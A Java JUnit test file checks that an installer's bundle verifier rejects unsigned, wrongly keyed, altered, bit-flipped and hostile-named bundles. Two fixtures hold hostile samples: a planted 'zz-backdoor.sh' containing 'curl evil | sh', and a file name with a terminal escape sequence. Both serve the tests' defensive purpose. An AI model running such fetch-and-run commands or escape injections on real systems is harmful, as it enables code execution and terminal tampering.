package dev.drydock.bundle;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.drydock.installer.InstallerMain;
import dev.drydock.installer.bundle.BundleFormat;
import dev.drydock.installer.bundle.BundleKeys;
import dev.drydock.installer.bundle.BundleRejectedException;
import dev.drydock.installer.bundle.BundleVerifier;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.PublicKey;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

/** {@code ./drydock install verify} on a real bundle and on tampered copies of it. */
class BundleVerificationTest {
    @TempDir
    static Path shared;

    static BundleFixture fixture;
    static Path bundle;
    static Map<String, byte[]> entries;

    @TempDir
    Path dir;

    @BeforeAll
    static void buildOnce() throws IOException {
        fixture = new BundleFixture(shared);
        bundle = fixture.build(shared.resolve("bundle.tar")).bundle();
        entries = BundleFixture.entries(bundle);
    }

    record Run(int exit, String out, String err) {}

    static Run verify(Path bundle, Path key) {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        CommandLine cl = InstallerMain.commandLine();
        cl.setOut(new PrintWriter(out));
        cl.setErr(new PrintWriter(err));
        int exit = cl.execute("verify", bundle.toString(), "--key", key.toString());
        return new Run(exit, out.toString(), err.toString());
    }

    @Test
    void shouldAcceptBundleWhenSignedAndIntact() {
        // Given
        Path key = fixture.publicKey();

        // When
        Run run = verify(bundle, key);

        // Then
        assertThat(run.exit()).as(run.err()).isZero();
        assertThat(run.out())
                .contains("OK, signed by key")
                .contains("image drydock/server:0.1.0-SNAPSHOT@sha256:")
                .contains("image drydock/sandbox:0.1.0-SNAPSHOT@sha256:");
    }

    @Test
    void shouldRejectBundleWhenItIsUnsigned() throws IOException {
        // Given
        Map<String, byte[]> unsigned = new LinkedHashMap<>(entries);
        unsigned.remove(BundleFormat.SIGNATURE);
        Path tampered = dir.resolve("unsigned.tar");
        BundleFixture.write(unsigned, tampered);

        // When
        Run run = verify(tampered, fixture.publicKey());

        // Then
        assertThat(run.exit()).isEqualTo(InstallerMain.REJECTED);
        assertThat(run.err())
                .contains("REJECTED")
                .contains("unsigned bundle: " + BundleFormat.SIGNATURE + " is missing");
    }

    @Test
    void shouldRejectBundleWhenKeyIsNotThePublishers() throws IOException {
        // Given
        Path other = dir.resolve("other-keys");
        String otherFingerprint = BundleKeys.generate(other);

        // When
        Run run = verify(bundle, other.resolve(BundleKeys.PUBLIC_KEY_FILE));

        // Then
        assertThat(run.exit()).isEqualTo(InstallerMain.REJECTED);
        assertThat(run.err())
                .contains(BundleFormat.SIGNATURE + ": signed with key")
                .contains("not with the trusted key " + otherFingerprint);
    }

    @Test
    void shouldRejectBundleAndNameTheFileWhenAFileIsMissing() throws IOException {
        // Given
        Map<String, byte[]> missing = new LinkedHashMap<>(entries);
        missing.remove(BundleFormat.REALM);
        Path tampered = dir.resolve("missing.tar");
        BundleFixture.write(missing, tampered);

        // When
        Run run = verify(tampered, fixture.publicKey());

        // Then
        assertThat(run.exit()).isEqualTo(InstallerMain.REJECTED);
        assertThat(run.err()).contains(BundleFormat.REALM + ": missing file");
    }

    @Test
    void shouldRejectBundleAndNameTheFileWhenAFileIsExtra() throws IOException {
        // Given
        Map<String, byte[]> extra = new LinkedHashMap<>(entries);
        extra.put("zz-backdoor.sh", "curl evil | sh".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        Path tampered = dir.resolve("extra.tar");
        BundleFixture.write(extra, tampered);

        // When
        Run run = verify(tampered, fixture.publicKey());

        // Then
        assertThat(run.exit()).isEqualTo(InstallerMain.REJECTED);
        assertThat(run.err()).contains("zz-backdoor.sh: extra file");
    }

    @Test
    void shouldRejectBundleAndNameTheFileWhenAFileIsReplaced() throws IOException {
        // Given
        Map<String, byte[]> replaced = new LinkedHashMap<>(entries);
        replaced.put("models/model.onnx", "a different model".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        Path tampered = dir.resolve("replaced.tar");
        BundleFixture.write(replaced, tampered);

        // When
        Run run = verify(tampered, fixture.publicKey());

        // Then
        assertThat(run.exit()).isEqualTo(InstallerMain.REJECTED);
        assertThat(run.err()).contains("models/model.onnx: content differs from the signed manifest");
    }

    @Test
    void shouldRejectBundleWhenAnyByteIsFlipped() throws IOException {
        // Given: every byte of the signature file (the one part the signature cannot cover), every
        // 512-byte record's first byte, the last byte, and 200 seeded random offsets
        byte[] original = Files.readAllBytes(bundle);
        long seed = 20261207L;
        Random random = new Random(seed);
        List<Integer> offsets = new ArrayList<>();
        int signatureEntry = 512 + (entries.get(BundleFormat.MANIFEST).length + 511) / 512 * 512;
        for (int i = signatureEntry + 512; i < signatureEntry + 512 + entries.get(BundleFormat.SIGNATURE).length; i++)
            offsets.add(i);
        for (int i = 0; i < original.length; i += 512) offsets.add(i);
        offsets.add(original.length - 1);
        for (int i = 0; i < 200; i++) offsets.add(random.nextInt(original.length));
        PublicKey key = BundleKeys.readPublic(fixture.publicKey());
        Path tampered = dir.resolve("flipped.tar");

        // When
        List<String> accepted = new ArrayList<>();
        Map<String, Integer> namedFiles = new LinkedHashMap<>();
        for (int offset : offsets) {
            byte[] copy = original.clone();
            copy[offset] ^= 0x01;
            Files.write(tampered, copy);
            BundleRejectedException rejected =
                    catchThrowableOfType(BundleRejectedException.class, () -> BundleVerifier.verify(tampered, key));
            if (rejected == null) {
                accepted.add("offset " + offset);
            } else {
                namedFiles.merge(rejected.file(), 1, Integer::sum);
            }
        }

        // Then
        assertThat(accepted).as("flipped bytes not detected (seed %d)", seed).isEmpty();
        assertThat(namedFiles)
                .containsKeys("models/model.onnx", BundleFormat.REALM, BundleFormat.MANIFEST, BundleFormat.SIGNATURE);
    }

    @Test
    void shouldNotEchoControlCharactersWhenAFileNameIsHostile() throws IOException {
        // Given
        Map<String, byte[]> extra = new LinkedHashMap<>(entries);
        extra.put("zz\u001b]0;pwned\u0007name", new byte[] {1});
        Path tampered = dir.resolve("hostile.tar");
        BundleFixture.write(extra, tampered);

        // When
        Run run = verify(tampered, fixture.publicKey());

        // Then
        assertThat(run.exit()).isEqualTo(InstallerMain.REJECTED);
        assertThat(run.err())
                .contains("zz?]0;pwned?name: extra file")
                .doesNotContain("\u001b")
                .doesNotContain("\u0007");
    }

    @Test
    void shouldUnpackEveryVerifiedFileWhenBundleIsExtracted() throws IOException {
        // Given
        Path out = dir.resolve("unpacked");
        CommandLine cl = InstallerMain.commandLine();
        StringWriter err = new StringWriter();
        cl.setOut(new PrintWriter(new StringWriter()));
        cl.setErr(new PrintWriter(err));

        // When
        int exit = cl.execute(
                "extract", bundle.toString(), "--key", fixture.publicKey().toString(), "--out", out.toString());

        // Then
        assertThat(exit).as(err.toString()).isZero();
        for (Map.Entry<String, byte[]> e : entries.entrySet()) {
            if (!e.getKey().startsWith("bundle-manifest")) {
                assertThat(out.resolve(e.getKey())).hasBinaryContent(e.getValue());
            }
        }
        assertThat(out.resolve("chart/drydock-0.1.0.tgz")).exists();
    }
}
